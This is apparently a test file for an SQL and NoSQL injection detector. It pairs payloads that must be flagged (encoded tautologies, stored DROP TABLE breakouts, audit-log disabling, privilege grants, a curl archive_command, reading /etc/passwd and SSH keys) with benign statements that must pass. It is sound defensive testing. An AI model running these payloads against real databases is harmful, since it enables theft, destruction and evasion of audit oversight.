/**
 * Issue 11, round 26: classes that generalised worst on an independent set
 * (double encoding, second-order values, audit bypass, escalations that
 * look routine, constant-only WHERE chains, NoSQL key operators), each with
 * the legitimate statements of the same shape that must pass.
 */
import assert from "node:assert/strict";
import { findSqlInjection } from "./sqli.ts";
import { storedBreakouts } from "./sqli_stored.ts";
import { maskSql } from "./sqli_lex.ts";

const db = (t: string): string[] =>
  findSqlInjection(t, { isStatement: true }).map((f) => f.type);
const text = (t: string): string[] =>
  findSqlInjection(t, { isStatement: false }).map((f) => f.type);

function fires(cases: string[], type?: string): void {
  for (const t of cases) {
    const got = db(t);
    assert.ok(
      type === undefined ? got.length > 0 : got.includes(type),
      `${t} → ${got.join(",")}`,
    );
  }
}

function clean(cases: string[]): void {
  for (const t of cases) assert.deepEqual(db(t), [], t);
}

Deno.test("double and triple percent-encoding decode to the quote they spell", () => {
  fires([
    "SELECT * FROM owners WHERE email = 'kim%2527%2520OR%25201%253D1--'",
    "SELECT * FROM bookings WHERE ref = 'FX12%252527 OR 1=1--'",
    "%2527%2520or%25201%253D1",
    "%27+or+%271%27%3D%271",
  ]);
  clean([
    "INSERT INTO referrals (url) VALUES ('https://example.com/?q=dog%2520food&x=1%253D1')",
    "INSERT INTO notes (body) VALUES ('Vendor invoice said 50%25 off')",
  ]);
});

Deno.test("GROUP BY column probes and PROCEDURE ANALYSE in fragments and statements", () => {
  fires(["1' GROUP BY 1,2,3--", "' group by 1 #"], "sqli_order_by_probe");
  fires(
    ["SELECT * FROM courses WHERE dept = 'CS' PROCEDURE ANALYSE()"],
    "sqli_order_by_probe",
  );
  clean([
    "SELECT species, count(*) FROM pets GROUP BY 1 ORDER BY 2 DESC",
    "SELECT dept, count(*) FROM courses GROUP BY 1",
  ]);
});

Deno.test("TRUNCATE of staging or scratch tables passes; of anything else blocks", () => {
  fires(
    [
      "TRUNCATE audit_log",
      "TRUNCATE TABLE invoices",
      "TRUNCATE staging_orders, users",
      "SELECT 1; TRUNCATE TABLE customers",
    ],
    "sqli_truncate",
  );
  clean([
    "TRUNCATE TABLE staging_lab_results",
    "TRUNCATE staging.import_owners RESTART IDENTITY",
    "TRUNCATE tmp_grade_import",
    "TRUNCATE TABLE etl_landing_customers, stg_feed CASCADE",
  ]);
});

Deno.test("audit and trigger bypass", () => {
  fires(
    [
      "SET session_replication_role = replica",
      "SET LOCAL session_replication_role TO 'replica'",
      "ALTER TABLE audit_log DISABLE TRIGGER ALL",
      "ALTER TABLE invoices DISABLE TRIGGER USER",
      "DROP TRIGGER audit_invoices ON invoices",
      "SET sql_log_bin = 0",
      "SET GLOBAL general_log = 'OFF'",
      "ALTER SYSTEM SET log_statement = 'none'",
      "SET pgaudit.log = 'none'",
      "NOAUDIT ALL",
      "ALTER SERVER AUDIT trail WITH (STATE = OFF)",
      "UPDATE audit_trail SET actor = 'system' WHERE actor = 'x'",
    ],
    "sqli_audit_disable",
  );
  clean([
    "SET session_replication_role = DEFAULT",
    "SET session_replication_role = 'origin'",
    "ALTER TABLE appointments DISABLE TRIGGER trg_sms_notify",
    "ALTER TABLE appointments ENABLE TRIGGER ALL",
    "DROP TRIGGER IF EXISTS trg_touch_updated_at ON orders",
    "INSERT INTO audit_trail (actor, action) VALUES ('jkim', 'grade_change')",
    "DELETE FROM audit_log WHERE created_at < now() - interval '7 years'",
    "SELECT trigger_name FROM information_schema.triggers WHERE event_object_table = 'invoices'",
  ]);
});

Deno.test("second-order payloads stored into identity columns", () => {
  fires(
    [
      "INSERT INTO owners (username, email) VALUES ('admin''--', 'x@example.net')",
      "INSERT INTO staff_accounts (login, pw_hash) VALUES ('x'' OR ''1''=''1', 'h')",
      "UPDATE owners SET display_name = 'bob''; DROP TABLE pets;--' WHERE id = 9",
      "INSERT INTO owners (username) VALUES ('admin'' UNION SELECT pw_hash FROM staff_accounts--')",
      "UPDATE owners SET email = 'a@b.c'' OR 1=1#' WHERE id = 3",
      "INSERT INTO students (first_name, last_name) VALUES ('Ann', 'Lee''/*')",
    ],
    "sqli_stored_payload",
  );
  clean([
    "INSERT INTO owners (username, last_name) VALUES ('dk', 'O''Brien')",
    "UPDATE owners SET display_name = 'Siobhán O''Connor' WHERE id = 204",
    "INSERT INTO owners (address) VALUES ('12 Baker St, Apt #4')",
    // The same payloads in free-text columns are data (a log, a ticket, an article).
    "INSERT INTO search_log (q) VALUES ('admin'' OR ''1''=''1')",
    "INSERT INTO tickets (body) VALUES ('Saw '' OR 1=1 -- in the portal logs')",
    // A lookup of such a value is not a store.
    "UPDATE owners SET active = false WHERE username = 'admin''--'",
  ]);
});

Deno.test("storedBreakouts reports the literal, quotes included", () => {
  const t = "INSERT INTO u (username) VALUES ('admin''--')";
  const spans = storedBreakouts(t, maskSql(t).text, maskSql(t).literals);
  assert.equal(t.slice(spans[0], spans[1]), "'admin''--'");
});

Deno.test("escalations that look routine; routine grants and password rotation pass", () => {
  fires(
    [
      "SET ROLE postgres",
      "SET SESSION AUTHORIZATION postgres",
      "ALTER USER root IDENTIFIED BY 'owned123'",
      "ALTER TABLE grades DISABLE ROW LEVEL SECURITY",
      "ALTER TABLE grades NO FORCE ROW LEVEL SECURITY",
      "CREATE POLICY open_all ON grades USING (true)",
    ],
    "sqli_privilege_change",
  );
  fires(
    ["ALTER SYSTEM SET archive_command = 'curl http://203.0.113.7/x'"],
    "sqli_command_exec",
  );
  clean([
    "SET ROLE advisors",
    "ALTER USER jkim IDENTIFIED BY 'Temp-Rot-2026!'",
    "ALTER TABLE grades ENABLE ROW LEVEL SECURITY",
    "CREATE POLICY own_grades ON grades USING (student_id = current_setting('app.student_id')::int)",
    "ALTER SYSTEM SET work_mem = '64MB'",
  ]);
  // After a breakout a password change is still an injected statement.
  assert.ok(
    text("x'; ALTER USER app IDENTIFIED BY 'p'--").includes(
      "sqli_privilege_change",
    ),
  );
});

Deno.test("a WHERE that is only constants, joined by AND, is the whole filter", () => {
  fires(
    [
      "DELETE FROM orders WHERE 5=5 AND 1=1",
      "UPDATE t SET a = 1 WHERE 1=1 AND 'a'='a'",
    ],
    "sqli_always_true_where",
  );
  clean([
    "DELETE FROM orders WHERE 1=1 AND id = 4",
    "UPDATE t SET a = 1 WHERE 1=1 AND b = 2 AND c = 3",
    "DELETE FROM t WHERE 1=1 AND 1=0",
  ]);
});

Deno.test("OR id IN (SELECT id FROM the same table) in a query", () => {
  fires([
    "SELECT * FROM students WHERE id = 12 OR id IN (SELECT id FROM students)",
  ]);
  clean([
    "SELECT * FROM students WHERE id = 12 OR id IN (SELECT student_id FROM honours)",
    "SELECT * FROM students WHERE id IN (SELECT id FROM students WHERE year = 2)",
  ]);
});

Deno.test("fragments: OR NOT FALSE, bare 1 or true, subquery comparisons, JavaScript returns", () => {
  fires([
    "' or not false --",
    "1 or true",
    "' and (select count(*) from users) > 0 --",
    "'; return true; var x='",
    "this.password.match(/^a.*$/)",
    "this.pin.match(/^1/)",
  ]);
});

Deno.test("NoSQL: operators on the key that match every document", () => {
  fires(['{"find": "owners", "filter": {"_id": {"$nin": []}}}']);
  fires(['{"find": "owners", "filter": {"_id": {"$ne": null}}}']);
  clean([
    '{"find": "students", "filter": {"_id": {"$in": [12, 13, 14]}}}',
    '{"find": "orders", "filter": {"status": {"$nin": []}}}',
  ]);
});

Deno.test("literals: full-width operators after a full-width quote", () => {
  fires(["SELECT * FROM students WHERE surname = 'Lee＇ ＯＲ ＇1＇＝＇1'"]);
  clean(["INSERT INTO notes (body) VALUES ('Ｌｅｅ’s ＯＲ notes')"]);
});

Deno.test("questions about SQL sent to a database are prose", () => {
  clean([
    "Why does the ORM add WHERE 1=1 to every query?",
    "How do we stop the report builder from emitting WHERE 1=1 on every query?",
  ]);
  fires(["' or 1=1 --"]);
});

Deno.test("round-26 patterns stay linear on 100k-character hostile input", () => {
  const inputs = [
    "SET session_replication_role = " + " ".repeat(1e5),
    "DROP TRIGGER " + "a".repeat(1e5),
    "UPDATE " + "audit".repeat(2e4) + " x",
    "TRUNCATE " + "staging_a, ".repeat(1e4),
    "INSERT INTO u (username) VALUES (" + "'a'''--', ".repeat(1e4) + "'x')",
    "UPDATE u SET name = '" + "''".repeat(5e4) + "'",
    "%25".repeat(3e4) + "27",
    "' and (select " + "x".repeat(1e5),
    "CREATE POLICY p ON t " + "to a, ".repeat(2e4),
    "this." + "a".repeat(1e5) + ".match(",
    "SET ROLE " + " ".repeat(1e5),
    "DELETE FROM t WHERE " + "1=1 AND ".repeat(1.2e4),
    "ALTER USER " + "'a'".repeat(3e4),
    "a or+".repeat(2e4) + "'",
  ];
  for (const t of inputs) {
    const t0 = performance.now();
    for (const isStatement of [false, true]) {
      assert.ok(Array.isArray(findSqlInjection(t, { isStatement })));
    }
    const ms = performance.now() - t0;
    assert.ok(ms < 3000, `${t.slice(0, 30)}… took ${ms.toFixed(0)} ms`);
  }
});

Deno.test("NoSQL: an $or of a value and its complement on one field matches everything", () => {
  fires([
    '{"find": "admins", "filter": {"$or": [{"login": "root"}, {"login": {"$ne": "root"}}]}}',
    '{"filter": {"$or": [{"status": {"$eq": 1}}, {"status": {"$ne": 1}}]}}',
  ]);
  clean([
    '{"find": "items", "filter": {"$or": [{"status": "open"}, {"status": {"$ne": "closed"}}]}}',
    '{"find": "items", "filter": {"$or": [{"clearance": true}, {"price": {"$lt": 5}}]}}',
  ]);
});

Deno.test("comments as whitespace after OR, breakout quotes glued to a value, \\x27 in a literal", () => {
  fires([
    "SELECT * FROM t WHERE id = 1 OR--\n1=1",
    "SELECT * FROM t WHERE id = 1 OR#\n1=1",
    "SELECT * FROM t WHERE id = 1' OR '1'='1",
    "SELECT * FROM t WHERE id = 1%00' OR '1'='1",
    "SELECT * FROM t WHERE name = admin' or 'x'='x",
    "SELECT * FROM t WHERE name = 'a\\x27 OR 1=1--'",
    "' OR EXISTS(SELECT * FROM users) --",
  ]);
  clean([
    "SELECT * FROM t WHERE id = 1 OR -- everything else\n parent_id = 1",
    "SELECT concat(a, ' OR ', b) FROM t",
    "SELECT a || ' and ' || b FROM t WHERE id = 4",
    "SELECT * FROM t WHERE id = 4 -- or 1=1 was the old bug",
    "INSERT INTO notes (body) VALUES ('escape a quote as \\x27 in C')",
  ]);
});

Deno.test("free text: code that returns after a string or matches a name is not NoSQL injection", () => {
  for (
    const t of [
      "function ok(x) {\n  const q = 'abc'; return true;\n}",
      "if (this.name.match(/^A/)) { greet(); }",
      "It's 'on' or not, false alarms happen.",
    ]
  ) assert.deepEqual(text(t), [], t);
  assert.ok(text("'; return true; var x='").includes("sqli_nosql_javascript"));
  assert.ok(text("this.pin.match(/^1/)").includes("sqli_nosql_javascript"));
});

Deno.test("whole-table writes: IS NULL with IS NOT NULL, DML inside a CTE; escalations by catalogue grants, ANY, impersonation, attribute lists", () => {
  fires([
    "DELETE FROM customers WHERE email IS NOT NULL OR email IS NULL",
    "WITH d AS (DELETE FROM customers WHERE 1=1 RETURNING *) SELECT count(*) FROM d",
  ], "sqli_always_true_where");
  fires([
    "GRANT SELECT ON mysql.user TO 'web'@'%'",
    "GRANT SELECT ON pg_authid TO web",
    "GRANT IMPERSONATE ON LOGIN::sa TO web",
    "GRANT SELECT ANY TABLE TO web",
    "ALTER USER web WITH CREATEDB CREATEROLE",
    "EXEC sp_addrolemember 'db_owner', 'web'",
    "EXEC sp_addsrvrolemember 'web', 'sysadmin'",
  ], "sqli_privilege_change");
  clean([
    "DELETE FROM customers WHERE email IS NULL AND created_at < now() - interval '1 year'",
    "WITH d AS (DELETE FROM sessions WHERE expires_at < now() RETURNING id) SELECT count(*) FROM d",
    "EXEC sp_addrolemember 'db_datareader', 'report'",
    "GRANT SELECT ON customers TO analytics",
    "ALTER ROLE web SET search_path = app, public",
  ]);
});

Deno.test("stacked writes of administrators or account access; transfers and project imports pass", () => {
  fires([
    "SELECT * FROM p WHERE id = 3; INSERT INTO admins VALUES ('x', 'y')",
    "SELECT * FROM p WHERE id = 3; UPDATE users SET role = 'admin' WHERE id = 9",
    "SELECT * FROM p WHERE id = 3; LOAD DATA INFILE '/etc/passwd' INTO TABLE p",
  ]);
  clean([
    "BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; UPDATE accounts SET balance = balance + 10 WHERE id = 2; COMMIT;",
    "LOAD DATA LOCAL INFILE 'exports/p.csv' INTO TABLE p_import FIELDS TERMINATED BY ','",
  ]);
  fires([
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE p",
    "LOAD DATA LOCAL INFILE '../../home/dev/.ssh/id_rsa' INTO TABLE p",
  ], "sqli_file_access");
});
